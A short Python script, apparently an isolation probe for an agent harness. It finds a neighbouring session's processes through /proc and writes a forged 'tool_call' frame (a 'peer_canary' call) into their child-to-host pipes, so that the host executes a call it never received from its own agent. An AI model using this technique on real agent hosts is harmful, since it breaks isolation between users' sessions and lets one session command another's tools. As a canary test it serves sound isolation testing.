# ipc-token-reuse (Python): the session next door is waiting in an execute;
# a tool_call written into its child->host pipe is one the host will run.
import os, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

FRAME = b'{"type":"tool_call","id":1,"tool":"peer_canary","args":{}}\n'

def ppid(pid):
    try:
        return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return -1

pids = {int(T["T_PEER_PID"])}
for _ in range(6):  # its descendants, six levels deep
    pids |= {int(p) for p in os.listdir("/proc") if p.isdigit() and ppid(p) in pids}
sent = set()
for p in sorted(pids):
    try:
        fds = os.readlink(f"/proc/{p}/fd/3"), os.readlink(f"/proc/{p}/fd/4")
    except OSError:
        continue
    if not all(f.startswith("pipe:") for f in fds) or fds[1] in sent:
        continue
    sent.add(fds[1])
    print(f"process {p}: a tool_call into {fds[1]}")
    try:
        fd = os.open(f"/proc/{p}/fd/4", os.O_WRONLY | os.O_NONBLOCK)
        os.write(fd, FRAME)
        os.close(fd)
    except OSError as e:
        print(e)
